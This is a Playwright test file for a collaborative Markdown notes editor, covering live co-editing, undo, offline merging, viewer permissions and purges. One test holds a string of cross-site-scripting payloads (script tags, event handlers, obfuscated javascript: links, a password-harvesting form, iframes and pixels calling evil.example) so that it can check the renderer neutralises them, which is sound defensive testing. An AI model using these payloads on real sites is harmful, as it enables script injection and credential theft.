import type { Browser, BrowserContext, Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ask, fieldbook } from '../fixtures/agent.ts';
import { launchChromium } from '../scaffold/browser.ts';
import { emptyFolder } from '../scaffold/folder.ts';
import { Machine, Relay } from '../scaffold/machine.ts';
import { fill } from './fill.ts';
import { agentAt, freePort, installed, profile, rows, saved, says, visit } from './visit.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(() => browser.close());

const PROJECT = 'noted';

/** An agent with one run, and its address. */
async function oneRun(name: string, ...notes: string[]) {
  const home = emptyFolder(name);
  const agent = await agentAt(home, await freePort());
  await fill(agent.url, agent.token, { project: PROJECT, runs: 1, newest: Date.now() - 60_000 });
  const { json } = await ask(agent, 'GET', `/projects/${PROJECT}/runs`);
  const run = json.runs[0].id as string;
  for (const value of notes) await ask(agent, 'POST', `/runs/${run}/edits`, [{ field: 'notes', op: 'set', value }]);
  return { home, agent, run, url: `${agent.url}/r/${run}?tab=notes` };
}

const editor = (page: Page): Locator => page.getByRole('textbox', { name: 'Notes, in Markdown' });
const reading = (page: Page): Locator => page.getByRole('region', { name: 'The note as it is read' });
/** The text in the editor, without the names of others' cursors. */
const textOf = (page: Page): Promise<string> =>
  editor(page).evaluate((element) => {
    const copy = element.cloneNode(true) as Element;
    for (const extra of copy.querySelectorAll('.cm-ySelectionCaret, .cm-placeholder')) extra.remove();
    return [...copy.querySelectorAll('.cm-line')].map((line) => line.textContent).join('\n');
  });

/** Waits until the text is this, or fits it. */
async function reads(page: Page, text: string | RegExp): Promise<void> {
  await expect
    .poll(() => textOf(page), { timeout: 20_000 })
    .toEqual(typeof text === 'string' ? text : expect.stringMatching(text));
}

async function write(page: Page, text: string, at: 'start' | 'end' = 'end'): Promise<void> {
  await editor(page).click();
  await page.keyboard.press(at === 'end' ? 'Control+End' : 'Control+Home');
  await page.keyboard.type(text);
}

/** A tab whose person has said who they are. */
async function tabOf(person: string, url: string): Promise<{ page: Page; context: BrowserContext }> {
  const context = await profile(browser);
  const page = await visit(context, url);
  await editor(page).waitFor();
  await introduce(page, person);
  return { page, context };
}

/** Says in Settings who writes; on one's own agent the browser knows that already. */
async function introduce(page: Page, person: string): Promise<void> {
  const back = page.url();
  await page.goto(new URL('/settings', back).href);
  const name = page.getByRole('textbox', { name: /^Your name/ });
  await name.fill(person);
  await name.press('Enter');
  await expect.poll(() => page.getByRole('button', { name: 'Keep' }).first().isDisabled()).toBe(true);
  await page.goto(back);
  await editor(page).waitFor();
}

interface RunView {
  notes: string;
  conflicts: unknown[];
}

interface EditView {
  field: string;
  value: string;
  by: string;
}

describe('notes', () => {
  it('[NOTE-8] [NOTE-9] two people write at once and see each other; the register follows, and takes the command line in', async () => {
    const { agent, home, run, url } = await oneRun('together', 'first\n');
    const ada = (await tabOf('Ada', url)).page;
    const bob = (await tabOf('Bob', url)).page;
    await reads(ada, 'first\n');
    await write(ada, 'from ada');
    await reads(bob, 'first\nfrom ada');
    await write(bob, 'from bob, ', 'start');
    await reads(ada, 'from bob, first\nfrom ada');
    // Cursors carry names, and who writes is said.
    expect(await ada.locator('.cm-ySelectionInfo').textContent()).toBe('Bob');
    expect(await bob.locator('.cm-ySelectionInfo').textContent()).toBe('Ada');
    await says(ada.getByRole('status', { name: 'Others in this note' }), 'Bob is writing');
    // The register says what the text says, in one edit a rest, and nobody sees a conflict.
    const view = async (): Promise<RunView> => (await ask(agent, 'GET', `/runs/${run}`)).json;
    await expect.poll(async () => (await view()).notes, { timeout: 20_000 }).toBe('from bob, first\nfrom ada');
    await saved(ada);
    await saved(bob);
    expect((await view()).conflicts).toEqual([]);
    const edits = (await ask(agent, 'GET', `/runs/${run}/history`)).json.edits as EditView[];
    expect(edits.length).toBeLessThanOrEqual(4);
    expect(new Set(edits.slice(1).map(({ by }) => by))).toEqual(
      new Set(['Ada', 'Bob'].filter((by) => edits.some((edit) => edit.by === by))),
    );
    // Written on the command line while both have it open: both see the difference where they are.
    await fieldbook(home, ['note', run, 'from bob, the very first\nfrom ada']);
    await reads(ada, 'from bob, the very first\nfrom ada');
    await reads(bob, 'from bob, the very first\nfrom ada');
    // In the text Ctrl+Z takes back what this person typed, and nothing of the others.
    await ada.keyboard.press('Control+z');
    await reads(bob, 'from bob, the very first\n');
    await reads(ada, 'from bob, the very first\n');
    await ada.close();
    await expect
      .poll(() => bob.getByRole('status', { name: 'Others in this note' }).textContent(), { timeout: 20_000 })
      .toBe('');
    await expect.poll(async () => (await view()).notes, { timeout: 20_000 }).toBe('from bob, the very first\n');
  });

  it('[NOTE-9] Ctrl+Z outside of the text takes a sitting back; the dialog of the table writes the same text', async () => {
    const { agent, run, url } = await oneRun('sitting', 'before');
    const { page } = await tabOf('Ada', url);
    await write(page, ' and');
    await saved(page);
    const notes = async (): Promise<string> => (await ask(agent, 'GET', `/runs/${run}`)).json.notes;
    await expect.poll(notes, { timeout: 20_000 }).toBe('before and');
    await write(page, ' after');
    await page.keyboard.press('Escape');
    await expect.poll(notes, { timeout: 20_000 }).toBe('before and after');
    await saved(page);
    await page.keyboard.press('Control+z');
    await expect.poll(notes, { timeout: 20_000 }).toBe('before');
    await reads(page, 'before');
    await page.goto(new URL(`/p/${PROJECT}`, url).href);
    // Beside the name, which is a link.
    await rows(page).first().click();
    await page.keyboard.press('n');
    await editor(page).waitFor();
    await reads(page, 'before');
    await page.keyboard.press('Control+End');
    await page.keyboard.type(' all');
    await page.getByRole('button', { name: 'Done' }).click();
    await expect.poll(notes, { timeout: 20_000 }).toBe('before all');
  });

  it('[NOTE-9] what was typed in a tab that was closed is said when the browser comes back', async () => {
    const { agent, run, url } = await oneRun('closed');
    const { page, context } = await tabOf('Ada', url);
    await write(page, 'in a hurry');
    // The worker has it; the tab is gone before the keys have rested.
    await says(page.getByRole('status', { name: 'State of the note' }), 'Writing');
    await page.close({ runBeforeUnload: false });
    await visit(context, new URL('/', url).href);
    await expect
      .poll(async () => (await ask(agent, 'GET', `/runs/${run}`)).json.notes, { timeout: 30_000 })
      .toBe('in a hurry');
  });

  it('[NOTE-10] two browsers and an agent write the same note offline, and it comes together through a relay', async () => {
    const relay = await new Relay().up();
    const [ada, bob] = [new Machine('gpu-1', 'Ada'), new Machine('gpu-2', 'Bob')];
    for (const machine of [ada, bob]) {
      await machine.up();
      await machine.cli('join', relay.url, '--token', await relay.token('member', machine.person));
    }
    const token = await relay.token('member', 'reviewer');
    await fill(relay.url, token, { project: PROJECT, runs: 1, newest: Date.now() - 60_000 });
    const { body } = await relay.api<{ runs: { id: string }[] }>(token, 'GET', `/projects/${PROJECT}/runs`);
    const run = body.runs[0]!.id;
    await ada.cli('sync', '--timeout', '60');
    await bob.cli('sync', '--timeout', '60');
    await ada.cli('note', run, 'The plan.\n\nThe result.');
    await ada.cli('sync', '--timeout', '60');
    await bob.cli('sync', '--timeout', '60');
    // One browser on Bob's agent, one on the relay; both have seen the note, then nobody can reach anybody.
    const here = await visit(await profile(browser), `${bob.url}/r/${run}?tab=notes`);
    const there = await visit(await profile(browser), `${relay.url}/r/${run}?tab=notes#token=${token}`);
    for (const page of [here, there]) {
      await reads(page, 'The plan.\n\nThe result.');
      await installed(page);
    }
    await introduce(there, 'Cyd');
    await relay.down();
    for (const page of [here, there]) await page.context().setOffline(true);
    await write(here, ' It held.');
    await write(there, 'Read this. ', 'start');
    await ada.cli('note', run, 'The plan, in short.\n\nThe result.');
    const state = (page: Page): Locator => page.getByRole('status', { name: 'State of the note' });
    await says(state(here), 'Only in this browser');
    await says(state(there), 'Only in this browser');
    // A tab that is opened again without any server has it all.
    await here.reload();
    await reads(here, 'The plan.\n\nThe result. It held.');
    await relay.up();
    for (const page of [here, there]) await page.context().setOffline(false);
    const whole = 'Read this. The plan, in short.\n\nThe result. It held.';
    await reads(here, whole);
    await reads(there, whole);
    // And everybody's register says it, without a conflict, though nobody typed any more.
    for (const machine of [ada, bob]) {
      const view = async () => {
        const { body: found } = await machine.api<RunView>('GET', `/runs/${run}`);
        return [found.notes, found.conflicts];
      };
      await expect.poll(view, { timeout: 60_000, interval: 500 }).toEqual([whole, []]);
    }
  });

  it('[NOTE-10] a browser that was offline for a month merges', async () => {
    const { agent, home, run, url } = await oneRun('month', 'one two three');
    const { page, context } = await tabOf('Ada', url);
    await reads(page, 'one two three');
    await installed(page);
    await context.setOffline(true);
    await page.clock.install({ time: Date.now() });
    await write(page, ', four');
    await page.clock.fastForward(31 * 86_400_000);
    await write(page, ', five');
    await says(page.getByRole('status', { name: 'State of the note' }), 'Only in this browser');
    for (const text of ['one 2 three', 'zero one 2 three']) await fieldbook(home, ['note', run, text]);
    await ask(agent, 'POST', `/runs/${run}/edits`, [{ field: 'tags', op: 'add', value: 'meanwhile' }]);
    await context.setOffline(false);
    await page.clock.fastForward(10_000);
    const whole = 'zero one 2 three, four, five';
    await reads(page, whole);
    await page.clock.fastForward(60_000);
    await expect
      .poll(async () => (await ask(agent, 'GET', `/runs/${run}`)).json.notes, { timeout: 30_000 })
      .toBe(whole);
    expect((await ask(agent, 'GET', `/runs/${run}`)).json).toMatchObject({
      conflicts: [],
      tags: expect.arrayContaining(['meanwhile']),
    });
  });
});

it('[NOTE-20] a viewer reads along, writes nothing, and is told why', async () => {
  const relay = await new Relay().up();
  const member = await relay.token('member', 'Ada');
  const viewer = await relay.token('viewer', 'Vic');
  await fill(relay.url, member, { project: PROJECT, runs: 1, newest: Date.now() - 60_000 });
  const { body } = await relay.api<{ runs: { id: string }[] }>(member, 'GET', `/projects/${PROJECT}/runs`);
  const address = `${relay.url}/r/${body.runs[0]!.id}?tab=notes`;
  const ada = await visit(await profile(browser), `${address}#token=${member}`);
  await editor(ada).waitFor();
  await introduce(ada, 'Ada');
  await write(ada, 'for all to read');
  const vic = await visit(await profile(browser), `${address}#token=${viewer}`);
  await reads(vic, 'for all to read');
  await says(vic.getByRole('status'), 'Your token for this relay may only read');
  expect(await editor(vic).getAttribute('aria-readonly')).toBe('true');
  await editor(vic).click();
  await vic.keyboard.type('graffiti');
  await vic.keyboard.press('Control+b');
  await vic.keyboard.press('Control+v');
  await write(ada, ', really');
  await reads(vic, 'for all to read, really');
  // Nor any other edit: it would stay here for ever.
  await vic.keyboard.press('Escape');
  await vic.getByRole('button', { name: 'Star', exact: true }).click();
  await says(vic.locator('.notice'), 'gives out tokens that may write');
  await saved(vic);
  expect(await vic.getByRole('dialog').count()).toBe(0);
  await reads(ada, 'for all to read, really');
  await saved(ada);
});

it('[NOTE-21] after a purge the browser keeps neither the note nor the document of the run', async () => {
  const { agent, run, url } = await oneRun('purged', 'a secret');
  const { page } = await tabOf('Ada', url);
  await write(page, ' of mine');
  await saved(page);
  const kept = (): Promise<string[]> =>
    page.evaluate(async (id) => {
      const all = await indexedDB.databases();
      return all.flatMap(({ name }) => (name?.endsWith(`/${id}`) === true ? [name] : [])).sort();
    }, run);
  expect(await kept()).toEqual([`fieldbook/note/${run}`, `fieldbook/run/${run}`]);
  const { status } = await ask(agent, 'POST', `/runs/${run}/edits`, [{ field: 'purge', op: 'set', value: true }]);
  expect(status).toBe(200);
  await page.getByRole('heading', { name: 'This run is not in this field book' }).waitFor();
  await expect.poll(kept, { timeout: 20_000 }).toEqual([]);
  // Nor after a reload, which asks the agent for what the address names.
  await page.reload();
  await page.getByRole('heading', { name: 'This run is not in this field book' }).waitFor();
  expect(await kept()).toEqual([]);
});

/** What would call out, run or restyle, in as many ways as Markdown and HTML have. */
const HOSTILE = String.raw`
# <script>window.pwned = 1</script>heading <img src=x onerror="window.pwned=2">
[a](javascript:window.pwned=3) [b](JaVaScRiPt:window.pwned=4) [c](data:text/html,<script>window.pwned=5</script>) [d](//evil.example/x) [e](vbscript:x)
[f]( java
script:alert(1)) [g](&#106;avascript:window.pwned=6) [h](\\evil.example\share) [i](/\evil.example)
[k](/&#9;/evil.example) [l](/&#10;/evil.example) [m](/&Tab;/evil.example) [n](https&colon;//evil.example) [o](/.//evil.example) [p](/a/..//evil.example)
![x](https://evil.example/pixel.png) ![y](//evil.example/pixel.png) ![z](javascript:window.pwned=7) ![w](/api/v1/projects)
<a href="javascript:window.pwned=8" onclick="window.pwned=9" target="_top">link</a>
<svg onload="window.pwned=10"><use href="data:image/svg+xml,x#x"/><animate onbegin="window.pwned=11"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=window.pwned=12>">
<form action="https://evil.example"><input type=password name=person><button>Go</button></form>
<iframe src="https://evil.example" srcdoc="<script>parent.pwned=13</script>"></iframe><object data=x></object><embed src=x>
<style>body{display:none}</style><link rel=stylesheet href="https://evil.example/a.css"><meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example">
<div id="app" style="position:fixed;inset:0;background:url(https://evil.example/b.png)" class="modal">cover</div>
<details open ontoggle="window.pwned=14"><summary>more</summary>x</details><video src=x onerror=window.pwned=15></video><audio src=x autoplay></audio>
<img srcset="https://evil.example/c.png 1x" src="data:image/svg+xml,<svg onload=alert(1)>"><picture><source srcset="https://evil.example/d.png"></picture>
<noscript><p title="</noscript><img src=x onerror=window.pwned=16>">

- [x] done
- [ ] to do
`;

it('[WEB-4] hostile Markdown runs nothing, fetches nothing, and links lead away safely', async () => {
  const { url } = await oneRun('hostile', HOSTILE);
  const context = await profile(browser);
  const page = await context.newPage();
  const origin = new URL(url).origin;
  const foreign: string[] = [];
  page.on('request', (request) => {
    const { protocol, origin: at } = new URL(request.url());
    if (protocol.startsWith('http') && at !== origin) foreign.push(request.url());
  });
  const violations: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy/.test(message.text())) violations.push(message.text());
  });
  let api = 0;
  page.on(
    'request',
    (request) => (api += Number(request.resourceType() === 'image' && request.url().includes('/api/'))),
  );
  await page.goto(url);
  const note = reading(page);
  await note.getByText('to do').waitFor();
  expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined();
  expect(foreign).toEqual([]);
  // What the policy refuses would have been an attempt: nothing gets so far.
  expect(violations).toEqual([]);
  expect(api).toBe(0);
  const found = await note.evaluate((element) => ({
    tags: [...new Set([...element.querySelectorAll('*')].map(({ localName }) => localName))],
    attributes: [...new Set([...element.querySelectorAll('*')].flatMap((each) => each.getAttributeNames()))],
    links: [...element.querySelectorAll('a[href]')].map((each) => ({
      href: each.getAttribute('href'),
      rel: each.getAttribute('rel'),
    })),
  }));
  for (const tag of [
    'script',
    'style',
    'svg',
    'math',
    'form',
    'button',
    'iframe',
    'object',
    'embed',
    'link',
    'meta',
    'base',
    'video',
    'audio',
    'picture',
    'noscript',
  ])
    expect(found.tags, tag).not.toContain(tag);
  expect(
    found.attributes.filter(
      (name) => name.startsWith('on') || ['style', 'id', 'name', 'srcset', 'action'].includes(name),
    ),
  ).toEqual([]);
  expect(found.links).toEqual([
    { href: '/%5Cevil.example', rel: null },
    { href: 'https://evil.example', rel: 'noopener noreferrer nofollow' },
    { href: 'https://evil.example/pixel.png', rel: 'noopener noreferrer nofollow' },
  ]);
  expect(
    await note
      .getByRole('checkbox')
      .evaluateAll((boxes) =>
        boxes.map((box) => [(box as HTMLInputElement).checked, (box as HTMLInputElement).disabled]),
      ),
  ).toEqual([
    [true, true],
    [false, true],
  ]);
  expect(await page.getByRole('banner').first().isVisible()).toBe(true);
});
